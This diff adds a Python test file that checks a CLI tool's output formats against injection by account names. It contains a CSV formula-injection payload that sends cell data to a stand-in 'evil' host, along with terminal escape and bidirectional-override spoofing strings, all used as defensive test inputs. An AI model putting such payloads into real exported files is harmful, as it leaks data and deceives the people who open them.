@@ -1,0 +1,69 @@
+"""Names from an account cannot do anything in a terminal or in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from ebbtide_cli.formats.rows import write_rows
+from tests.faults.known import known_fault
+
+FORMATS = ("csv", "list", "table", "markdown")
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "\t=1+1")
+BIDI = ("a\u202egnp.exe", "\u2066x")
+
+
+def written(capsys: pytest.CaptureFixture[str], format: str, name: str) -> str:
+    write_rows(format, ["name"], [[name]])
+    return capsys.readouterr().out
+
+
+@known_fault("safety 5: a name that is a formula is one in the CSV, too")
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_name_is_no_formula_in_a_spreadsheet(
+    capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    _, row = csv.reader(io.StringIO(written(capsys, "csv", name)))
+    assert row[0][0] not in "=+-@\t\r"
+
+
+@pytest.mark.parametrize(
+    "format",
+    [
+        pytest.param(
+            format, marks=known_fault("safety 5: control characters pass into the CSV as they are")
+        )
+        if format == "csv"
+        else format
+        for format in FORMATS
+    ],
+)
+def test_a_name_cannot_command_the_terminal(
+    capsys: pytest.CaptureFixture[str], format: str
+) -> None:
+    assert "\x1b" not in written(capsys, format, "\x1b[31mred\x1b[0m")
+
+
+@known_fault("safety 5: bidirectional overrides pass in every format")
+@pytest.mark.parametrize("name", BIDI)
+@pytest.mark.parametrize("format", FORMATS)
+def test_a_name_cannot_change_the_direction_of_the_text(
+    capsys: pytest.CaptureFixture[str], format: str, name: str
+) -> None:
+    assert not set("\u202e\u2066") & set(written(capsys, format, name))
+
+
+@pytest.mark.parametrize("format", FORMATS)
+def test_markup_in_a_name_is_shown_as_it_is(
+    capsys: pytest.CaptureFixture[str], format: str
+) -> None:
+    assert "[bold red]markup[/]" in written(capsys, format, "[bold red]markup[/]")
+
+
+@pytest.mark.parametrize("format", ["list", "table", "markdown"])
+def test_a_name_with_a_line_break_stays_in_its_line(
+    capsys: pytest.CaptureFixture[str], format: str
+) -> None:
+    assert not [line for line in written(capsys, format, "one\ntwo").splitlines() if line == "two"]
